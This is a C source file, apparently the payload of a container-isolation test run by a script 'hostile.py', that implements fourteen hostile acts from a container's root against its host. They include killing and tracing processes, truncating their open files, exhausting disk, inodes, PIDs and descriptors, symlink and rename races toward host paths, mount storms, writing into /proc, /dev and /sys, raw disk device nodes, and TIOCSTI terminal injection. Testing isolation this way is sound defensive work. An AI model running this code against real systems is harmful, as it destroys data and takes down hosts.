/*
 * hostile ACT...: what root of a container can do against its host, each act in a process of its
 * own, until the container is killed. hostile.py runs it and watches whether anybody else notices.
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <unistd.h>

#define DEPTH 10000
#define PROCESSES 500

static void each_process(void (*act)(pid_t pid))
{
    DIR *dir = opendir("/proc");
    struct dirent *entry;

    while (dir != NULL && (entry = readdir(dir)) != NULL) {
        pid_t pid = (pid_t)atoi(entry->d_name);

        /* Not who runs the acts, nor this one: the attack would end itself. */
        if (pid > 1 && pid != getpid() && getpgid(pid) != getpgrp())
            act(pid);
    }
    if (dir != NULL)
        closedir(dir);
}

static void stop_one(pid_t pid)
{
    kill(pid, SIGSTOP);
}

static void kill_one(pid_t pid)
{
    kill(pid, SIGKILL);
}

/* Holds it, and looks at what it has open. */
static void trace_one(pid_t pid)
{
    char path[64];

    ptrace(PTRACE_SEIZE, pid, 0, 0);
    ptrace(PTRACE_INTERRUPT, pid, 0, 0);
    for (int fd = 0; fd < 64; fd++) {
        int own;

        snprintf(path, sizeof(path), "/proc/%d/fd/%d", pid, fd);
        own = open(path, O_RDWR | O_NONBLOCK);
        if (own >= 0) {
            dprintf(own, "hostile\n");
            ftruncate(own, 0);
            fchmod(own, 07777);
            close(own);
        }
    }
    snprintf(path, sizeof(path), "/proc/%d/mem", pid);
    close(open(path, O_RDWR));
    snprintf(path, sizeof(path), "/proc/%d/oom_score_adj", pid);
    close(open(path, O_RDWR));
}

static void stop(void)
{
    for (;;)
        each_process(stop_one);
}

static void kill_all(void)
{
    for (;;)
        each_process(kill_one);
}

static void trace(void)
{
    for (;;)
        each_process(trace_one);
}

/* Both outputs: lines without an end, bytes that are no text, empty lines. */
static void flood(void)
{
    static char bytes[65536];

    for (unsigned long round = 0;; round++) {
        for (size_t i = 0; i < sizeof(bytes); i++)
            bytes[i] = (char)(round % 3 == 0 ? 'x' : round % 3 == 1 ? '\n' : rand());
        for (int i = 0; i < 50; i++)
            write(1 + i % 2, bytes, sizeof(bytes));
    }
}

static void fill_disk(void)
{
    static char bytes[1 << 20];
    int fd = open("/fill", O_WRONLY | O_CREAT, 0600);

    for (;;) {
        if (write(fd, bytes, sizeof(bytes)) < 0)
            usleep(1000);
    }
}

static void fill_inodes(void)
{
    char name[64];

    mkdir("/inodes", 0700);
    for (unsigned long i = 0;; i++) {
        snprintf(name, sizeof(name), "/inodes/%lu", i);
        if (mknod(name, S_IFREG | 0600, 0) < 0)
            usleep(1000);
    }
}

/* As long as a name may be, of all bytes there are. */
static void name_badly(char name[NAME_MAX + 1], int seed)
{
    for (int i = 0; i < NAME_MAX; i++)
        name[i] = (char)(1 + (seed + i) % 255);
    name[NAME_MAX] = '\0';
    for (char *slash = strchr(name, '/'); slash != NULL; slash = strchr(name, '/'))
        *slash = '_';
}

static void make_deep(void)
{
    char name[NAME_MAX + 1];

    mkdir("/deep", 0700);
    chdir("/deep");
    for (int i = 0; i < DEPTH; i++) {
        name_badly(name, i);
        if (i % 2 == 0)
            snprintf(name, sizeof(name), "%d", i);
        mkdir(name, 0700);
        if (chdir(name) < 0)
            break;
    }
    symlink("../../../../../../../../etc/passwd", "link");
    mkfifo("fifo", 0666);
    for (;;)
        pause();
}

/* What others copy from and to is a directory, a link out, a pipe, a device, in turn. */
static void swap(void)
{
    char path[PATH_MAX];

    mkdir("/copy", 0777);
    mkdir("/copy/real", 0777);
    close(open("/copy/real/file", O_WRONLY | O_CREAT, 0666));
    snprintf(path, sizeof(path), "../../../../../../../../../..%s", getenv("WITNESS"));
    symlink(path, "/copy/link");
    snprintf(path, sizeof(path), "../../../../../../../../../..%s/file", getenv("WITNESS"));
    symlink(path, "/copy/real/out");
    mkfifo("/copy/pipe", 0666);
    mknod("/copy/device", S_IFCHR | 0666, makedev(1, 11));
    for (;;) {
        syscall(SYS_renameat2, AT_FDCWD, "/copy/real", AT_FDCWD, "/copy/link", 2);
        syscall(SYS_renameat2, AT_FDCWD, "/copy/link", AT_FDCWD, "/copy/pipe", 2);
        syscall(SYS_renameat2, AT_FDCWD, "/copy/pipe", AT_FDCWD, "/copy/device", 2);
    }
}

/* Where the host looks things up, what it opens is none of its business. */
static void replace(void)
{
    static const char *const files[] = {
        "/etc/passwd",   "/etc/group", "/etc/hosts", "/etc/resolv.conf",
        "/etc/hostname", "/etc/mtab",  "/tmp",       "/etc"};

    for (;;) {
        for (size_t i = 0; i < sizeof(files) / sizeof(*files); i++) {
            unlink(files[i]);
            rename(files[i], "/moved");
            if (rand() % 2 == 0)
                mkfifo(files[i], 0666);
            else if (rand() % 2 == 0)
                mknod(files[i], S_IFCHR | 0666, makedev(1, rand() % 2 == 0 ? 11 : 1));
            else
                symlink("/proc/1/fd/0", files[i]);
        }
    }
}

static void mount_over(void)
{
    static const char *const places[] = {"/proc",     "/dev",    "/sys",  "/etc",
                                         "/tmp",      "/bin",    "/copy", "/dev/null",
                                         "/proc/sys", "/proc/1", "/"};

    unshare(CLONE_NEWNS);
    mount(NULL, "/", NULL, MS_REC | MS_SHARED, NULL);
    for (;;) {
        for (size_t i = 0; i < sizeof(places) / sizeof(*places); i++) {
            mount("hostile", places[i], "tmpfs", 0, "size=1m");
            mount("/", places[i], NULL, MS_BIND | MS_REC, NULL);
            mount(NULL, places[i], NULL, MS_REMOUNT | MS_BIND, NULL);
            umount2(places[i], MNT_DETACH);
        }
    }
}

/* No more than a machine without that limit can bear. */
static void eat_pids(void)
{
    for (int i = 0; i < PROCESSES; i++) {
        if (fork() == 0) {
            for (;;)
                pause();
        }
    }
    for (;;)
        waitpid(-1, NULL, 0);
}

static void eat_descriptors(void)
{
    for (;;) {
        int pair[2];

        if (socketpair(AF_UNIX, SOCK_STREAM, 0, pair) < 0 || open("/", O_PATH) < 0)
            usleep(1000);
    }
}

static void poke_file(const char *path)
{
    int fd = open(path, O_WRONLY | O_NONBLOCK | O_NOCTTY);

    if (fd >= 0) {
        write(fd, "1\n", 2);
        close(fd);
    }
    chmod(path, 0777);
    chown(path, 1, 1);
    setxattr(path, "trusted.hostile", "x", 1, 0);
    truncate(path, 0);
}

/* Everything that can be written to, has its attributes changed, and is told nonsense. */
static void poke_below(const char *directory, int depth)
{
    DIR *dir = opendir(directory);
    struct dirent *entry;

    while (dir != NULL && (entry = readdir(dir)) != NULL) {
        char path[4096];

        if (entry->d_name[0] == '.' ||
            snprintf(path, sizeof(path), "%s/%s", directory, entry->d_name) >= (int)sizeof(path))
            continue;
        /* Not the memory of this process, nor what ends the container itself. */
        if (strncmp(path, "/proc/", 6) == 0 && depth == 0 && entry->d_name[0] >= '0' &&
            entry->d_name[0] <= '9')
            continue;
        if (entry->d_type == DT_DIR && depth < 6)
            poke_below(path, depth + 1);
        else if (entry->d_type == DT_REG || entry->d_type == DT_CHR || entry->d_type == DT_BLK)
            poke_file(path);
    }
    if (dir != NULL)
        closedir(dir);
}

/* hostile.py looks for /opened. */
static void open_device(mode_t type, unsigned int major, unsigned int minor)
{
    int fd;

    unlink("/node");
    mknod("/node", type | 0666, makedev(major, minor));
    fd = open("/node", O_RDWR | O_NONBLOCK | O_NOCTTY);
    if (fd >= 0) {
        mknod("/opened", S_IFREG | 0600, 0);
        close(fd);
    }
}

static void poke(void)
{
    for (;;) {
        poke_below("/proc", 0);
        poke_below("/dev", 0);
        poke_below("/sys/fs/cgroup", 0);
        poke_below("/sys/kernel", 3);
        poke_file("/etc/hosts");
        poke_file("/etc/resolv.conf");
        poke_file("/etc/hostname");
        open_device(S_IFCHR, 1, 1);
        open_device(S_IFCHR, 1, 4);
        open_device(S_IFCHR, 1, 11);
        open_device(S_IFCHR, 10, 234);
        open_device(S_IFBLK, 7, 0);
        open_device(S_IFBLK, 8, 0);
        open_device(S_IFBLK, 254, 0);
        poke_file("/proc/self/exe");
        sethostname("hostile", 7);
    }
}

/* Every abstract socket there may be, terminals, and the console. */
static void shout(void)
{
    for (;;) {
        int terminal = open("/dev/ptmx", O_RDWR | O_NOCTTY);
        char c = 'x';

        ioctl(0, TIOCSTI, &c);
        ioctl(1, TIOCSTI, &c);
        ioctl(terminal, TIOCCONS);
        for (int i = 0; i < 32; i++) {
            struct sockaddr_un address = {.sun_family = AF_UNIX};
            int fd = socket(AF_UNIX, SOCK_DGRAM | SOCK_NONBLOCK, 0);

            snprintf(address.sun_path + 1, sizeof(address.sun_path) - 1, "davit-%d", i);
            bind(fd, (struct sockaddr *)&address, sizeof(address));
            close(fd);
        }
        close(terminal);
    }
}

static const struct {
    const char *name;
    void (*act)(void);
} acts[] = {
    {"stop", stop},        {"kill", kill_all},  {"trace", trace},
    {"flood", flood},      {"fill", fill_disk}, {"inodes", fill_inodes},
    {"deep", make_deep},   {"swap", swap},      {"replace", replace},
    {"mount", mount_over}, {"pids", eat_pids},  {"descriptors", eat_descriptors},
    {"poke", poke},        {"shout", shout},
};

static void begin(const char *name)
{
    for (size_t i = 0; i < sizeof(acts) / sizeof(*acts); i++) {
        if (strcmp(acts[i].name, name) != 0)
            continue;
        if (fork() == 0) {
            srand((unsigned int)getpid());
            acts[i].act();
            _exit(0);
        }
        return;
    }
    fprintf(stderr, "no such act: %s\n", name);
    exit(2);
}

int main(int argc, char **argv)
{
    for (int number = 1; number < NSIG; number++) {
        if (number != SIGCHLD)
            signal(number, SIG_IGN);
    }
    setpgid(0, 0);
    printf("hostile\n");
    fflush(stdout);
    srand((unsigned int)getpid());
    for (int i = 1; i < argc; i++) {
        if (strcmp(argv[i], "end") == 0) { /* and is started again, and again */
            usleep((useconds_t)(rand() % 300000));
            return 3;
        }
        begin(argv[i]);
    }
    for (;;) {
        if (waitpid(-1, NULL, 0) < 0)
            pause();
    }
}
